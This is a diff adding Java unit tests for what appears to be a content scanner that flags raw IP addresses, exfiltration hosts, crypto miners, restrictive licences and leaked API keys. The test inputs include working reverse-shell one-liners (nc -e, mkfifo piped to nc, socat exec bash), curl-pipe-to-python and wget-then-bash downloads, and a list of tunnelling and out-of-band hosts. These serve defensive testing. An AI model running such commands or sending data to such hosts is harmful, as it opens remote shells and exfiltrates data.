@@ -172,4 +172,110 @@ class SweepTest {
         Trial trial = inData("stratum+tcp://pool.example:3333/\u001b[31m");
         assertThat(trial.findings.getFirst().message()).doesNotContain("\u001b");
     }
+
+    @Test
+    void addresses_of_the_whole_world_are_told_and_those_at_home_are_not() {
+        for (String host : List.of(
+                "172.15.0.1", "172.32.0.1", "192.167.0.1", "100.63.0.1", "100.128.0.1", "11.0.0.1", "223.0.0.1")) {
+            assertThat(inData("http://" + host + "/").rules()).as(host).containsExactly("indicator/raw-address");
+        }
+        for (String host : List.of(
+                "172.16.0.1",
+                "172.31.0.1",
+                "192.168.0.1",
+                "100.64.0.1",
+                "100.127.0.1",
+                "10.9.9.9",
+                "224.0.0.1",
+                "192.0.2.7",
+                "198.51.100.7",
+                "203.0.113.7",
+                "1.2.3.4",
+                "0.0.0.0",
+                "300.1.1.1")) {
+            assertThat(inData("http://" + host + "/").rules()).as(host).isEmpty();
+        }
+    }
+
+    @Test
+    void the_host_stands_behind_who_logs_in_there() {
+        assertThat(inData("http://huggingface.co@45.61.184.7/x").rules()).containsExactly("indicator/raw-address");
+    }
+
+    @Test
+    void hosts_that_take_data_out_are_told() {
+        for (String url : List.of(
+                "a.ngrok.io",
+                "a.ngrok-free.app",
+                "a.trycloudflare.com",
+                "a.burpcollaborator.net",
+                "a.oastify.com",
+                "a.oast.fun",
+                "a.oast.pro",
+                "a.oast.live",
+                "a.oast.site",
+                "a.oast.online",
+                "a.oast.me",
+                "a.interact.sh",
+                "webhook.site/1",
+                "pastebin.com/raw/1",
+                "transfer.sh/1",
+                "a.pipedream.net",
+                "a.requestbin.com",
+                "abcdefghij234567.onion")) {
+            assertThat(inData("http://" + url).rules()).as(url).containsExactly("indicator/exfiltration-host");
+        }
+    }
+
+    @Test
+    void shells_and_downloads_are_told_in_each_way_they_are_written() {
+        Map.of(
+                        "nc -l 10.0.0.1 4242 -e x",
+                        "indicator/reverse-shell",
+                        "ncat 10.0.0.1 4242 -e /bin/bash",
+                        "indicator/reverse-shell",
+                        "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242",
+                        "indicator/reverse-shell",
+                        "socat tcp:10.0.0.1:4242 exec:'bash -li'",
+                        "indicator/reverse-shell",
+                        "curl -s https://host.example/x.py | python3",
+                        "indicator/piped-download",
+                        "wget -q https://host.example/x.sh && bash x.sh",
+                        "indicator/piped-download",
+                        "stratum+ssl://pool.example:3333",
+                        "indicator/miner",
+                        "./xmrig -o pool",
+                        "indicator/miner")
+                .forEach((text, rule) ->
+                        assertThat(inData(text).rules()).as(text).containsExactly(rule));
+    }
+
+    @Test
+    void licences_that_forbid_selling_or_bind_services_are_told_and_others_are_not() {
+        for (String id : List.of(
+                "agpl-3.0",
+                "cc-by-nc-4.0",
+                "cc-by-nc-2.0",
+                "cc-by-nc-sa-4.0",
+                "cc-by-nc-nd-4.0",
+                "agpl-3.0-or-later")) {
+            assertThat(inText("license: " + id).rules()).as(id).containsExactly("licence/restrictive");
+        }
+        for (String id : List.of("mit", "apache-2.0", "gpl-3.0", "lgpl-3.0", "cc-by-4.0", "cc-by-sa-4.0", "llama2")) {
+            assertThat(inText("license: " + id).findings).as(id).isEmpty();
+            assertThat(inText("license: " + id).facts).as(id).containsKey("licence");
+        }
+    }
+
+    @Test
+    void a_secret_that_shows_in_two_ways_is_told_once() {
+        var letters = new StringBuilder();
+        RandomGeneratorFactory.of("L64X128MixRandom")
+                .create(20261121L)
+                .ints(116, 0, 62)
+                .forEach(i ->
+                        letters.append("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789".charAt(i)));
+        String key = "sk-proj-" + letters.substring(58) + "T3BlbkFJ" + letters.substring(0, 58);
+        assertThat(inData("{\"openai_api_key\": \"" + key + "\"}").findings).hasSize(1);
+    }
 }
